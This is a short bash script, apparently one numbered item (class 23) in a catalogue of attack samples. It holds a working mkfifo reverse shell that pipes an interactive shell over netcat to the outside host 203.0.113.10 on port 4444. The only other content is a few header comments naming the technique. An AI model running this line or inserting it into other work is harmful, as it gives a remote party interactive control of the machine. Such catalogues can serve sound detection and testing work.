#!/usr/bin/env bash
# attack-class: 23
# title: mkfifo reverse shell
# why: a named pipe loops a shell over netcat

mkfifo /tmp/f
cat /tmp/f | sh -i 2>&1 | nc 203.0.113.10 4444 > /tmp/f
